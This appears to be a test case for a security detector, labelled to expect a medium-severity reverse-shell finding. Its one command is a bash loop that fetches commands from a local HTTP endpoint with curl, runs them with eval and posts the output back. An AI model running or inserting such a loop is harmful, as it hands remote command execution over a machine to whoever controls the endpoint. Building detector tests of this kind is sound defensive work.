# about: a loop asks for the next command with curl, runs it, and posts what it said
# expect: reverse_shell medium
# needs: python3 curl
proven_http 4513
timeout 6 bash -c 'while :; do c=$(curl -s http://127.0.0.1:4513/next); [ "$c" = exit ] && break; [ -n "$c" ] && curl -s -d "$(eval "$c" 2>&1)" http://127.0.0.1:4513/said; sleep 0.2; done' || true
answered
